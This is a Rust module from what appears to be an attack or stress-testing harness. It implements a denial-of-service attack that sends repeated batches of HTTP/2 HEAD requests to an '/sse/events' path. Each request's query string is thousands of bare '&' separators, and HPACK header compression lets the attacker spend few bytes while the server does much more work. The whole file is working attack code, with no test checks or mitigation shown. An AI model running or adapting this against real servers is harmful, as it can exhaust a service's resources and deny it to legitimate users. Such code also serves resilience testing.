//! Queries of nothing but separators, written once and referred to by each further request (HPACK): a few bytes of
//! the attacker's for as long as the hub reads them.

use bytes::Bytes;
use h2::client::ResponseFuture;

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct EndlessQueries;

impl Attack for EndlessQueries {
    fn name(&self) -> &'static str {
        "endless queries"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let path = format!("/sse/events?{}", "&".repeat(3_900));
            let Some(requests) = target.http2(65_535).await else { return };
            for _ in 0..20 {
                for answer in ask(&requests, target, &path).await {
                    let _ = answer.await;
                }
            }
        })
    }
}

async fn ask(
    requests: &h2::client::SendRequest<Bytes>,
    target: &Target,
    path: &str,
) -> Vec<ResponseFuture> {
    let mut asked = Vec::new();
    for _ in 0..100 {
        let Ok(mut ready) = requests.clone().ready().await else { break };
        let request = target.request("HEAD", path).body(()).unwrap();
        let Ok((answer, _)) = ready.send_request(request, true) else { break };
        asked.push(answer);
    }
    asked
}
